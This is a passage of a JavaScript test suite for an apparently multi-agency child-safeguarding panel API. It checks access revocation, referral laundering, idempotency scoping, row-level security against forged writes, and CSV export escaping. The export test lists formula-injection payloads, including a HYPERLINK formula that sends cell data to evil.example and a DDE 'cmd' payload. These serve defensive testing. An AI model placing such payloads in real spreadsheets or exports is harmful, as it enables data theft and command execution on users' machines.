    const P = await makePanel({ type: 'risk_meeting', members: ['youth_justice', 'csc', 'health'] });
    const c = await makeChild('csc');
    const r = await refer(P, c);
    const a = (await makeAction(P, { owner_agency: 'youth_justice' })).body;
    const h = who('health', 'safeguarding_lead');
    await ok('GET', `/v1/children/${c.id}`, h);
    await ok('GET', `/v1/panel-referrals/${r.id}`, h);
    await ok('PATCH', `/v1/panels/${P.id}`, admin(), { member_agencies: ['youth_justice', 'csc'] }, 200, { 'If-Match': '"v1"' });
    for (const path of [`/v1/children/${c.id}`, `/v1/panel-referrals/${r.id}`, `/v1/panels/${P.id}/referrals`, `/v1/panels/${P.id}/case-list`, `/v1/panel-actions/${a.id}`])
      problem(await call('GET', path, h), 404, 'not-found');
    assert.deepEqual((await ok('GET', `/v1/panel-actions?panel=${P.id}`, h)).body.items, []);
    const rows = () => psql(`select string_agg(action || ':' || (details->>'agency'), ',' order by occurred_at) from safeguard.audit_events
      where resource_type = 'child' and resource_id = '${c.id}' and details->>'cause' = 'membership'`);
    assert.equal(rows(), 'child.panel_access.end:health');
    await ok('PATCH', `/v1/panels/${P.id}`, admin(), { member_agencies: ['youth_justice', 'csc', 'mental_health'] }, 200, { 'If-Match': '"v2"' });
    assert.equal(rows(), 'child.panel_access.end:health,child.panel_access.start:mental_health');
    await ok('GET', `/v1/children/${c.id}`, who('mental_health', 'practitioner'));
    // a membership change with no open case audits no child
    const Q = await makePanel({ type: 'risk_meeting', members: ['csc'] });
    const before = psql("select count(*) from safeguard.audit_events where details->>'cause' = 'membership'");
    await ok('PATCH', `/v1/panels/${Q.id}`, admin(), { member_agencies: ['health'] }, 200, { 'If-Match': '"v1"' });
    assert.equal(psql("select count(*) from safeguard.audit_events where details->>'cause' = 'membership'"), before);
  });
});

// ---------------------------------------------------------------------------------------------

describe('laundering a passing view of a child into a referral', () => {
  it('an agency that sees the child only through another panel\'s open referral cannot refer it on (422 not_in_network)', async () => {
    const A = await makePanel({ type: 'risk_meeting', members: ['csc'] });
    const B = await makePanel({ type: 'risk_meeting', members: ['health', 'voluntary'] });
    const c = await makeChild('csc');
    const rA = await refer(A, c);
    await ok('GET', `/v1/children/${c.id}`, who('police', 'safeguarding_lead'));
    for (const token of [who('police', 'safeguarding_lead'), policeChair()]) {
      const res = problem(await call('POST', `/v1/panels/${B.id}/referrals`, token, { child_id: c.id, reason: 'passing it on', risk_level: 'low' }), 422, 'invalid-reference');
      assert.deepEqual(fields(res), ['child_id:not_in_network']);
    }
    assert.equal(psql(`select count(*) from safeguard.panel_referrals where panel_id = '${B.id}'`), '0');
    problem(await call('GET', `/v1/children/${c.id}`, who('voluntary', 'practitioner')), 404, 'not-found');
    // closing A ends the police's view: nothing outlives it
    await accept(rA);
    await ok('POST', `/v1/panel-referrals/${rA.id}/closure`, policeChair(), { reason: 'risk_reduced' });
    problem(await call('GET', `/v1/children/${c.id}`, who('police', 'practitioner')), 404, 'not-found');
  });

  it('nor through a live chronology request it is invited to; after declaring involvement it may', async () => {
    const P = await makePanel({ type: 'risk_meeting', members: ['health'] });
    const c = await makeChild('csc');
    await ok('POST', '/v1/chronology-requests', who('csc', 'social_worker'), {
      child_id: c.id, agencies: ['police'], purpose: 'strategy discussion', lawful_basis: 'children_act_1989_s47',
      period_from: today(-400), period_to: today(0), respond_by: today(7), share_until: instant(Date.now() + 3600e3),
    }, 201);
    const lead = who('police', 'safeguarding_lead');
    await ok('GET', `/v1/children/${c.id}`, lead);
    const res = problem(await call('POST', `/v1/panels/${P.id}/referrals`, lead, { child_id: c.id, reason: 'r', risk_level: 'high' }), 422, 'invalid-reference');
    assert.deepEqual(fields(res), ['child_id:not_in_network']);
    await ok('POST', `/v1/children/${c.id}/involvements`, lead, { reason: 'investigating a missing episode' }, 201);
    await ok('POST', `/v1/panels/${P.id}/referrals`, lead, { child_id: c.id, reason: 'r', risk_level: 'high' }, 201);
  });

  it('row-level security alone refuses the same referral', async () => {
    const A = await makePanel({ type: 'risk_meeting', members: ['csc'] });
    const B = await makePanel({ type: 'risk_meeting', members: ['health'] });
    const c = await makeChild('csc');
    await refer(A, c);
    const insert = `insert into safeguard.panel_referrals (id, panel_id, child_id, referring_agency, referred_by, reason, risk_level, updated_by)
      values (gen_random_uuid(), '${B.id}', '${c.id}', 'police', 'rls-attacker', 'r', 'low', 'rls-attacker'); select 'inserted'`;
    refused(asApi({ agency: 'police', roles: 'panel_chair' }, insert), 'a referral of a child seen only through another panel');
    psql(`insert into safeguard.child_network (child_id, agency, how, reason, joined_by) values ('${c.id}', 'police', 'declared', 'test', 'rls-attacker')`);
    assert.equal(asApi({ agency: 'police', roles: 'panel_chair' }, insert).out, 'inserted');
  });
});

// ---------------------------------------------------------------------------------------------

describe('the referrer reads back its own referral, and nothing else of the panel', () => {
  it('a social worker reads the referral it made, with the outcome and its reason; not the panel\'s other cases', async () => {
    const P = await makePanel({ members: ['youth_justice', 'csc'] });
    const sw = tokenFor('csc', 'social_worker', `sw-${randomUUID().slice(0, 8)}`);
    const other = tokenFor('csc', 'social_worker', `sw-${randomUUID().slice(0, 8)}`);
    const mine = await refer(P, await makeChild('csc'), sw);
    const theirs = await refer(P, await makeChild('csc'), other);
    let res = await ok('GET', `/v1/panel-referrals/${mine.id}`, sw);
    assert.equal(res.body.status, 'submitted');
    assert.ok(res.headers.get('etag'));
    await ok('POST', `/v1/panel-referrals/${mine.id}/decision`, policeChair(), { outcome: 'declined', reason: 'not for this panel: refer to the risk meeting' });
    res = await ok('GET', `/v1/panel-referrals/${mine.id}`, sw);
    assert.equal(res.body.status, 'declined');
    assert.equal(res.body.decline_reason, 'not for this panel: refer to the risk meeting');
    assert.deepEqual(res.body.history.map((h) => `${h.status}:${h.agency}`), ['submitted:csc', 'declined:police']);
    assert.equal(audited('child.panel_referral.read', mine.child_id) >= 2, true);
    // not another worker's referral, not the case list, its discussions or meetings
    problem(await call('GET', `/v1/panel-referrals/${theirs.id}`, sw), 404, 'not-found');
    for (const path of [`/v1/panels/${P.id}/referrals`, `/v1/panel-referrals/${mine.id}/discussions`, `/v1/panels/${P.id}/meetings`, `/v1/panels/${P.id}/case-list`])
      problem(await call('GET', path, sw), 403, 'forbidden');
    // nor a decision: that is the chair's
    problem(await call('POST', `/v1/panel-referrals/${theirs.id}/decision`, sw, { outcome: 'accepted' }), 403, 'forbidden');
  });

  it('what the panel recorded since stays the readers\': the referrer sees the risk level it referred', async () => {
    const P = await makePanel({ members: ['youth_justice', 'csc'] });
    const sw = tokenFor('csc', 'social_worker', `sw-${randomUUID().slice(0, 8)}`);
    const r = await refer(P, await makeChild('csc'), sw);
    await accept(r);
    const m = await makeMeeting(P, [r]);
    await ok('POST', `/v1/panel-meetings/${m.id}/discussions`, policeChair(), { referral_id: r.id, summary: 'secret', risk_level: 'low', next_review_date: today(14) }, 201);
    const reader = await ok('GET', `/v1/panel-referrals/${r.id}`, who('youth_justice', 'panel_member'));
    assert.deepEqual([reader.body.current_risk_level, reader.body.next_review_date], ['low', today(14)]);
    const own = await ok('GET', `/v1/panel-referrals/${r.id}`, sw);
    assert.deepEqual([own.body.current_risk_level, own.body.next_review_date], ['high', null]);
  });

  it('the same sub from another agency is not the referrer, in the API and in row-level security', async () => {
    const P = await makePanel({ members: ['youth_justice', 'csc', 'health'] });
    const sub = `dual-${randomUUID().slice(0, 8)}`;
    const r = await refer(P, await makeChild('csc'), tokenFor('csc', 'social_worker', sub));
    await ok('GET', `/v1/panel-referrals/${r.id}`, tokenFor('csc', 'social_worker', sub));
    problem(await call('GET', `/v1/panel-referrals/${r.id}`, tokenFor('education', 'safeguarding_lead', sub)), 404, 'not-found');
    const count = (agency) => asApi({ agency, roles: 'practitioner', sub }, `select count(*) from safeguard.panel_referrals where id = '${r.id}'`).out;
    assert.equal(count('csc'), '1');
    assert.equal(count('education'), '0');
  });
});

// ---------------------------------------------------------------------------------------------

describe('Idempotency-Key across agencies', () => {
  it('two people of two agencies using one key: each request runs for itself', async () => {
    const P = await makePanel({ members: ['youth_justice', 'csc'] });
    const c = await makeChild('csc');
    await ok('POST', `/v1/children/${c.id}/involvements`, who('youth_justice', 'safeguarding_lead'), { reason: 'x' }, 201);
    const key = `shared-${randomUUID()}`;
    const body = { child_id: c.id, reason: 'r', risk_level: 'low', criteria: JOINT };
    const first = await ok('POST', `/v1/panels/${P.id}/referrals`, who('csc', 'social_worker'), body, 201, { 'Idempotency-Key': key });
    const second = problem(await call('POST', `/v1/panels/${P.id}/referrals`, who('youth_justice', 'safeguarding_lead'), body, { 'Idempotency-Key': key }), 409, 'conflict');
    assert.equal(second.headers.get('idempotent-replayed'), null);
    assert.equal(psql(`select count(*) from safeguard.panel_referrals where child_id = '${c.id}'`), '1');
    const again = await ok('POST', `/v1/panels/${P.id}/referrals`, who('csc', 'social_worker'), body, 201, { 'Idempotency-Key': key });
    assert.equal(again.headers.get('idempotent-replayed'), 'true');
    assert.equal(again.body.id, first.body.id);
  });

  // Keys were once stored per sub with a hash of method, path and body, so
  // the same person's token for another agency replayed the first agency's
  // answer, a write it never made; 006 keys them per issuer, agency and sub.
  it('one sub with tokens of two agencies: the second agency\'s request is not answered with the first\'s write', async () => {
    const P = await makePanel({ members: ['youth_justice', 'csc'] });
    const c = await makeChild('csc');
    await ok('POST', `/v1/children/${c.id}/involvements`, who('youth_justice', 'safeguarding_lead'), { reason: 'x' }, 201);
    const sub = `dual-${randomUUID().slice(0, 8)}`;
    const key = `k-${randomUUID()}`;
    const body = { child_id: c.id, reason: 'r', risk_level: 'low', criteria: JOINT };
    await ok('POST', `/v1/panels/${P.id}/referrals`, tokenFor('csc', 'safeguarding_lead', sub), body, 201, { 'Idempotency-Key': key });
    const res = await call('POST', `/v1/panels/${P.id}/referrals`, tokenFor('youth_justice', 'safeguarding_lead', sub), body, { 'Idempotency-Key': key });
    assert.notEqual(res.headers.get('idempotent-replayed'), 'true', `replayed CSC's referral to youth_justice`);
    // it ran as youth_justice's own request: the child's open referral is already there
    problem(res, 409, 'conflict');
  });
});

// ---------------------------------------------------------------------------------------------

describe('formula injection in every exported text field', () => {
  // every cell is quoted; split them and look at how each begins
  const cells = (csv) => [...csv.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map((m) => m[1].replace(/""/g, '"'));
  const PAYLOADS = ['=1+1', '+SUM(1)', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil.example/?"&A1,"x")', '=cmd|\'/c calc\'!A1'];

  it('action descriptions, owners\' names and progress notes; children\'s names in the case list', async () => {
    const P = await makePanel({ members: ['youth_justice', 'csc'] });
    for (const [i, p] of PAYLOADS.entries()) {
      const a = (await makeAction(P, { description: p, owner_name: p, owner_agency: 'csc', due_date: today(i) })).body;
      await ok('PATCH', `/v1/panel-actions/${a.id}`, who('csc', 'panel_member'), { status: 'in_progress', progress_note: p }, 200, { 'If-Match': '"v1"' });
      await refer(P, await makeChild('csc', { first_name: p, last_name: p }));
    }
    for (const [path, cols] of [[`/v1/panels/${P.id}/action-log`, ['owner_name', 'description', 'progress_note']], [`/v1/panels/${P.id}/case-list`, ['first_name', 'last_name']]]) {
      const res = await ok('GET', path, policeChair());
      assert.match(res.headers.get('content-type'), /^text\/csv/);
      const all = cells(res.body);
      const width = cells(`${res.body.split('\r\n')[0]}\r\n`).length;
      const header = all.slice(0, width);
      const rows = [];
      for (let i = width; i < all.length; i += width) rows.push(all.slice(i, i + width));
      assert.equal(rows.length, PAYLOADS.length);
      for (const col of cols) {
        const k = header.indexOf(col);
        assert.ok(k >= 0, `${col} in ${header}`);
        assert.deepEqual(rows.map((r) => r[k]).sort(), PAYLOADS.map((p) => `'${p}`).sort(), col);
      }
      for (const cell of all) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a formula-like cell: ${JSON.stringify(cell)}`);
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe('row-level security alone, on every panel table', () => {
  // Panel A (police chair; youth_justice, csc) and panel B (education chair; health, csc).
  let A, B, A2, rA, rA2, rB, mA, mB, sA, aA, aB, cB, escA;
  const chairA = { agency: 'police', roles: 'panel_chair' };
  before(async () => {
    A = await makePanel({ members: ['youth_justice', 'csc'] });
    A2 = await makePanel({ members: ['youth_justice', 'csc'] });
    B = await makePanel({ type: 'cme', chair: 'education', members: ['health', 'csc'] });
    rA = await refer(A, await makeChild('csc'));
    await accept(rA);
    rA2 = await refer(A, await makeChild('csc'));
    cB = await makeChild('csc');
    rB = await refer(B, cB, who('csc', 'social_worker'), { criteria: {} });
    await accept(rB, who('education', 'panel_chair'));
    mA = await makeMeeting(A, [rA]);
    sA = await makeMeeting(A, [rA], { held: false });
    mB = await makeMeeting(B, [rB], { chair: who('education', 'panel_chair') });
    aA = (await makeAction(A, { owner_agency: 'youth_justice' })).body;
    escA = (await makeAction(A, { owner_agency: 'youth_justice' })).body;
    await ok('POST', `/v1/panel-actions/${escA.id}/escalation`, who('youth_justice', 'panel_member'), { reason: 'not ours' }, 201);
    aB = (await makeAction(B, { owner_agency: 'health' }, who('education', 'panel_chair'))).body;
  });

  it('no reader of A reads a row of B, in any of the ten tables', () => {
    for (const [table, col, id] of [['panel_referrals', 'id', rB.id], ['panel_referral_events', 'referral_id', rB.id], ['panel_meetings', 'id', mB.id],
      ['panel_minutes', 'meeting_id', mB.id], ['panel_minutes_versions', 'meeting_id', mB.id], ['panel_discussions', 'meeting_id', mB.id],
      ['panel_decisions', 'meeting_id', mB.id], ['panel_actions', 'id', aB.id], ['panel_action_escalations', 'action_id', aB.id], ['panel_action_history', 'action_id', aB.id]]) {
      assert.equal(asApi({ agency: 'youth_justice', roles: 'panel_member,panel_chair,safeguarding_lead' }, `select count(*) from safeguard.${table} where ${col} = '${id}'`).out, '0', table);
    }
  });

  it('a reader of A raises no escalation on B\'s action under A\'s panel id', () => {
    refused(asApi({ agency: 'youth_justice', roles: 'panel_member' }, `insert into safeguard.panel_action_escalations (id, action_id, panel_id, reason, raised_by, raised_agency)
      values (gen_random_uuid(), '${aB.id}', '${A.id}', 'x', 'rls-attacker', 'youth_justice'); select 'inserted'`), 'escalation of another panel\'s action');
    // nor on an action of its own panel that its agency does not own
    refused(asApi({ agency: 'csc', roles: 'panel_member' }, `insert into safeguard.panel_action_escalations (id, action_id, panel_id, reason, raised_by, raised_agency)
      values (gen_random_uuid(), '${aA.id}', '${A.id}', 'x', 'rls-attacker', 'csc'); select 'inserted'`), 'escalation of another agency\'s action');
  });

  it('a member of A records no discussion, a chair of A no decision nor action, on B\'s meeting or referral', () => {
    refused(asApi({ agency: 'youth_justice', roles: 'panel_member' }, `insert into safeguard.panel_discussions (id, meeting_id, referral_id, panel_id, summary, risk_level, recorded_by, recorded_agency)
      values (gen_random_uuid(), '${mB.id}', '${rB.id}', '${A.id}', 'forged', 'low', 'rls-attacker', 'youth_justice'); select 'inserted'`), 'discussion at B');
    refused(asApi({ agency: 'youth_justice', roles: 'panel_member' }, `insert into safeguard.panel_discussions (id, meeting_id, referral_id, panel_id, summary, risk_level, recorded_by, recorded_agency)
      values (gen_random_uuid(), '${mA.id}', '${rA2.id}', '${A.id}', 'forged', 'low', 'rls-attacker', 'youth_justice'); select 'inserted'`), 'discussion of a referral not on the agenda');
    refused(asApi(chairA, `insert into safeguard.panel_decisions (id, panel_id, meeting_id, referral_id, text, recorded_by, recorded_agency)
      values (gen_random_uuid(), '${A.id}', '${mB.id}', null, 'forged', 'rls-attacker', 'police'); select 'inserted'`), 'decision at B\'s meeting');
    refused(asApi(chairA, `insert into safeguard.panel_decisions (id, panel_id, meeting_id, referral_id, text, recorded_by, recorded_agency)
      values (gen_random_uuid(), '${A.id}', '${mA.id}', '${rB.id}', 'forged', 'rls-attacker', 'police'); select 'inserted'`), 'decision about B\'s referral');
    for (const [ref, meet, owner] of [[rB.id, null, 'police'], [null, mB.id, 'police'], [null, null, 'health']]) {
      refused(asApi(chairA, `insert into safeguard.panel_actions (id, panel_id, referral_id, meeting_id, description, owner_agency, due_date, created_by, updated_by)
        values (gen_random_uuid(), '${A.id}', ${ref ? `'${ref}'` : 'null'}, ${meet ? `'${meet}'` : 'null'}, 'forged', '${owner}', current_date, 'rls-attacker', 'rls-attacker'); select 'inserted'`), `action ${ref} ${meet} ${owner}`);
    }
    // the chair's own action on its own referral is taken (the policy is not simply closed)
    assert.equal(asApi(chairA, `insert into safeguard.panel_actions (id, panel_id, referral_id, meeting_id, description, owner_agency, due_date, created_by, updated_by)
      values (gen_random_uuid(), '${A.id}', '${rA.id}', '${mA.id}', 'fine', 'csc', current_date, 'rls-attacker', 'rls-attacker'); select 'inserted'`).out, 'inserted');
  });

  it('an owner agency changes only its progress: not the description, due date, owner, a cancel or an open escalation', () => {
    const yj = { agency: 'youth_justice', roles: 'panel_member' };
    const upd = (id, set) => asApi(yj, `update safeguard.panel_actions set ${set}, updated_by = 'rls-attacker' where id = '${id}' returning status`);
    for (const set of ["description = 'rewritten'", "due_date = '2099-01-01'", "owner_agency = 'csc'", "status = 'cancelled'", `panel_id = '${A2.id}'`, `referral_id = null, meeting_id = '${mA.id}'`])
      refused(upd(aA.id, set), set);
    refused(upd(escA.id, 'escalated = false'), 'clearing an open escalation');
    assert.equal(upd(aA.id, "status = 'in_progress', progress_note = 'started'").out, 'in_progress');
  });

  it('a chair never points a referral at another child or panel; nor puts B\'s referral on A\'s agenda', () => {
    for (const set of [`child_id = '${cB.id}'`, `panel_id = '${A2.id}'`, "referring_agency = 'health'", "reason = 'rewritten'"])
      refused(asApi(chairA, `update safeguard.panel_referrals set ${set} where id = '${rA.id}' returning 1`), set);
    refused(asApi(chairA, `update safeguard.panel_meetings set agenda = array['${rB.id}']::uuid[] where id = '${sA.id}' returning 1`), 'B\'s referral on A\'s agenda');
    refused(asApi(chairA, `insert into safeguard.panel_meetings (id, panel_id, kind, scheduled_at, agenda, created_by, updated_by)
      values (gen_random_uuid(), '${A.id}', 'officer', now(), array['${rB.id}']::uuid[], 'x', 'x'); select 1`), 'a new meeting with B\'s referral');
    refused(asApi(chairA, `update safeguard.panel_meetings set panel_id = '${A2.id}' where id = '${sA.id}' returning 1`), 'moving a meeting');
    assert.equal(asApi(chairA, `update safeguard.panel_meetings set location = 'Room 3' where id = '${sA.id}' returning location`).out, 'Room 3');
  });

  it('a member writing the minutes moves them to no other panel and approves nothing', () => {
    const csc = { agency: 'csc', roles: 'panel_member' };
    refused(asApi(csc, `update safeguard.panel_minutes set panel_id = '${B.id}' where meeting_id = '${mA.id}' returning 1`), 'moving minutes');
    refused(asApi(csc, `update safeguard.panel_minutes set status = 'approved', approved_at = now(), approved_by = 'rls-attacker', updated_by = 'rls-attacker' where meeting_id = '${mA.id}' returning 1`), 'a member approving');
    refused(asApi(chairA, `update safeguard.panel_minutes set status = 'approved', approved_at = now(), approved_by = 'someone-else', updated_by = 'rls-attacker' where meeting_id = '${mA.id}' returning 1`), 'approving in another\'s name');
    assert.equal(asApi(csc, `update safeguard.panel_minutes set text = 'draft', updated_by = 'rls-attacker' where meeting_id = '${mA.id}' returning status`).out, 'draft');
  });

  it('history tables take no write from the API role, and decisions no change', () => {
    for (const stmt of [
      `insert into safeguard.panel_action_history (action_id, version, panel_id, change, snapshot, changed_by, changed_agency) values ('${aA.id}', 99, '${A.id}', 'updated', '{}', 'x', 'police')`,
      `insert into safeguard.panel_referral_events (referral_id, version, panel_id, status, actor_sub, actor_agency) values ('${rA.id}', 99, '${A.id}', 'closed', 'x', 'police')`,
      `insert into safeguard.panel_minutes_versions (meeting_id, version, panel_id, text, status, recorded_by, recorded_agency) values ('${mA.id}', 99, '${A.id}', 'x', 'draft', 'x', 'police')`,
      `delete from safeguard.panel_decisions where panel_id = '${A.id}'`,
      `update safeguard.panel_decisions set text = 'x' where panel_id = '${A.id}'`,
      `insert into safeguard.panel_members values ('${B.id}', 'police')`,
      `update safeguard.panels set chair_agency = 'police' where id = '${B.id}'`,
    ]) refused(asApi({ agency: 'police', roles: 'panel_chair,panel_member,safeguarding_lead' }, `${stmt} returning 1`), stmt);
  });
});
